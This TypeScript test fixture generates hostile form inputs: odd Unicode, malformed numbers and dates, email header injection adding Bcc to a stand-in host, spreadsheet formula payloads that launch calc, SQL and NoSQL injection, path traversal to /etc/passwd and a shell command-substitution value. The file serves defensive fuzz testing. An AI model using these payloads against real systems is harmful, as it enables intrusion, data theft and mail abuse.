import { injectionTexts } from "./injection-texts.ts";
import type { Random } from "../fixtures/random.ts";

const unicode = [
  "שלום מהמסלול",
  "\u202Ecod.exe\u202C",
  "a\u2066b\u2069c\u200F",
  "on\u200Bzicht\u200Dbaar\uFEFF",
  "halve letter \uD83D",
  "\uDC4D omgekeerd \uD83D",
  "café́ noe\u0308l i\u0307",
  "👨‍👩‍👧‍👦🏁".repeat(20),
  "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘",
  "nul\u0000teken",
  "\u0007\u001B[31mrood\u001B[0m",
  "\u2028regel\u2029alinea\u0085nog een",
  "\u{E0041}\u{E0042} \u{10FFFF} \uFFFE \uFFFF",
  "ﷺ".repeat(50),
  "İıſK Å ﬁ",
  "\u00A0\u2003 \u3000",
  "🇳🇱".repeat(60),
] as const;

const headers = [
  "Jan\r\nBcc: buit@kwaad.example",
  "jan@voorbeeld.nl\r\nBcc: buit@kwaad.example",
  "jan@voorbeeld.nl\nSubject: Anders",
  "jan@voorbeeld.nl%0d%0aBcc:buit@kwaad.example",
  "jan@voorbeeld.nl\r\n\r\n<script>alert(1)</script>",
  "jan@voorbeeld.nl, buit@kwaad.example",
  "jan@voorbeeld.nl;buit@kwaad.example",
  "Jan <buit@kwaad.example>",
  '"buit@kwaad.example"@voorbeeld.nl',
  "buit%kwaad.example@voorbeeld.nl",
  "jan@voorbeeld.nl\u2028Bcc: buit@kwaad.example",
  "=?utf-8?B?DQpCY2M6IGJ1aXRAa3dhYWQuZXhhbXBsZQ==?=",
  "Jan\u000BBcc: buit@kwaad.example\u000C",
  "嘊嘍Bcc: buit@kwaad.example",
  ".\r\nRCPT TO:<buit@kwaad.example>\r\n",
] as const;

const formulas = [
  '=HYPERLINK("https://kwaad.example";"klik")',
  "=cmd|' /C calc'!A0",
  "+31 6 12345678 +SUM(1;1)",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "  =1+1",
  "\u00A0=1+1",
  "\uFEFF=1+1",
  "\u200B=1+1",
  "＝1+1",
  "＠SUM(1)",
  '";=1+1;"',
  "'=1+1",
  "|calc",
  "%0A=1+1",
] as const;

const names = [
  "__proto__",
  "constructor",
  "hasOwnProperty",
  "toString",
  "[object Object]",
  "undefined",
  "null",
] as const;

const database = [
  "' OR '1'='1",
  "'; DROP TABLE submissions;--",
  '{"$ne":null}',
  "${7*7}{{7*7}}<%=7*7%>#{7*7}",
  "../../../../etc/passwd",
  "%00%2e%2e%2f",
  "$(touch /tmp/x)`id`",
  "\\u0000\\x00",
] as const;

const numbers = [
  "NaN",
  "Infinity",
  "-Infinity",
  "1e309",
  "0x10",
  "-0",
  "-1",
  "0",
  "1.5",
  "99",
  "100",
  "2147483648",
  "9007199254740993",
  "1.234.567,89",
  "1,234,567.89",
  "٤٢",
  "４２",
  "½",
  "9".repeat(400),
  "0.".padEnd(300, "1"),
  "+5",
  "--5",
  "1e3",
  "5.",
  ",5",
  " 4 ",
  "2;3",
  "4\u202F200",
  "−4",
  "2026-02-30",
  "0000-00-00",
  "+275760-09-13",
  "9999-12-31",
  "1988-03-16T00:00:00Z",
  "16-03-1988",
  "today",
  "true",
  "on",
  "",
  " ",
  "[]",
  "{}",
] as const;

/** A text that an attacker sends, or a visitor with an unusual keyboard. */
export function hostileText(random: Random): string {
  switch (random.integer(8)) {
    case 0:
    case 1:
      return random.pick(unicode);
    case 2:
    case 3:
      return random.pick(headers);
    case 4:
      return random.pick(formulas);
    case 5:
      return random.pick(names);
    case 6:
      return random.pick(database);
    default:
      return injectionTexts[random.integer(injectionTexts.length)] ?? "";
  }
}

/** A value that isn't the number, day or choice that is expected. */
export function hostileNumber(random: Random): string {
  return numbers[random.integer(numbers.length)] ?? "";
}
